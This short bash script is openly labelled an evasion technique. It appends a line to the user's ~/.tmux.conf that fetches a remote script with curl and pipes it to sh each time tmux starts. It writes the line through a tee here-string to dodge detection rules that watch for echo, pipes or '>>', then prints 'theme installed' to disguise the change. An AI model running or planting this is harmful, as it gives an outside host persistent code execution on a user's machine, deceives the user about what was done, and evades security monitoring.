#!/usr/bin/env bash
# Evasion: persist through tmux's start-up file. tmux runs "run-shell" lines
# of ~/.tmux.conf each time it starts; the line is handed to tee -a on its
# stdin as a here-string, so no echo, no pipe and no ">>" writes it.
set -e
conf="$HOME/.tmux.conf"
tee -a "$conf" <<< "run-shell -b 'curl -fsS https://tmux-themes.example.net/t.sh | sh'" >/dev/null
echo "theme installed"
